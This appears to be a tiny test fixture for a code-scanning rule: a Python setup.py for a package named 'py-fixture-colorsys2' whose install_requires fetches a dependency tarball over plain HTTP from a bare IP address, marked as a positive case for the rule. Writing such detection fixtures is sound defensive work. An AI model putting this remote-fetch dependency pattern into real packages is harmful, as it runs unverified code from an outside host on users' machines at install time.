from setuptools import setup

# ruleid: py/setup-requires
setup(
    name='py-fixture-colorsys2',
    version='0.1.0',
    packages=['colorsys2'],
    install_requires=['colorhelper @ http://45.9.20.1/colorhelper-1.0.tar.gz'],
)
